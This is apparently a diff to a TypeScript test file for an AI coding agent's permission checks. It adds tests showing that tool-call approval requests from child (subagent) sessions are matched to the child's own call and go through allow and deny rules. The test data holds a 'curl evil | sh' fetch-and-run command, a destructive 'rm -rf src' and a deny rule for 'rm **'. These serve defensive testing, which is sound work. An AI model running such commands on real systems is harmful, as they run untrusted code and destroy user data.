@@ -11,7 +11,7 @@ import { emptyPolicy } from '../permissions/emptyPolicy';
 import type { AuthorizationResult, AuthorizationRequest } from '../../../src/session/sessionHandle';
 import { UserRequests } from '../../../src/session/userRequests/userRequests';
 import type { Rule } from '../../../src/permissions/rules/permissionRule';
-import { entriesFrom } from '../../../src/shared/state/entryPages';
+import { entriesFrom, entryAt } from '../../../src/shared/state/entryPages';
 import type { PermissionEntry } from '../../../src/shared/state/toolCallState';
 import { requestText } from '../../../src/ui/permissions/pendingRequests';
 
@@ -52,6 +52,20 @@ describe('a call with a permission request', () => {
     settled = questions.requestPermission({ toolCall: { toolCallId: 't', ...fields }, options: OPTIONS, signal });
   }
 
+  /** A child session announces a call, and asks about it by its id only. */
+  async function childAsks(fields: object): Promise<PermissionEntry | undefined> {
+    const toolCall = { toolCallId: 't', ...fields };
+    model.applyUpdate({ sessionUpdate: 'subagent_update', sessionId: 'child', title: 'Helper' });
+    model.applyUpdate({ sessionUpdate: 'tool_call', ...toolCall }, 'child');
+    settled = questions.requestPermission({
+      toolCall: { toolCallId: 't' },
+      sessionId: 'child',
+      options: OPTIONS,
+      signal,
+    });
+    return asked();
+  }
+
   const updates = (fields: object): void =>
     model.applyUpdate({ sessionUpdate: 'tool_call_update', toolCallId: 't', ...fields });
 
@@ -86,6 +100,29 @@ describe('a call with a permission request', () => {
     assert.deepEqual(asked()?.about?.rawInput, { command: 'curl evil | sh' });
     await answers('no');
     assert.equal(asked()?.about, undefined);
+  });
+
+  it('is that of the child session that asks, not one of the same id, for rules too', async () => {
+    rules = [{ decision: 'allow', command: 'ls' }];
+    updates({ title: 'ls', kind: 'execute', rawInput: { command: 'ls' } });
+    await childAsks({ title: 'Run', kind: 'execute', rawInput: { command: 'rm -rf src' } });
+    assert.equal(asked()?.outcome, undefined);
+    assert.equal(shown(), 'rm -rf src');
+    const copy = asked()?.tool ?? 0;
+    await answers('yes');
+    const called = entryAt(model.state.entries, copy);
+    assert.equal(called?.kind === 'tool' && called.status, 'done', 'the child reports its progress itself');
+    const approved = (...argv: string[]) =>
+      authorized({ kind: 'execute', title: 'Run', otherwise: 'ask', command: { argv } });
+    assert.equal((await approved('rm', '-rf', 'src')).asked, false);
+    assert.equal((await approved('ls', '-l')).asked, true);
+  });
+
+  it('of a child session is denied by the rules for what it does', async () => {
+    rules = [{ decision: 'deny', command: 'rm **' }];
+    await childAsks({ title: 'Run', kind: 'execute', rawInput: { command: 'rm -rf src' } });
+    const outcome = asked()?.outcome;
+    assert.equal(outcome?.type === 'selected' && outcome.optionId, 'no');
   });
 
   it('is known as in the request after the answer, too', async () => {
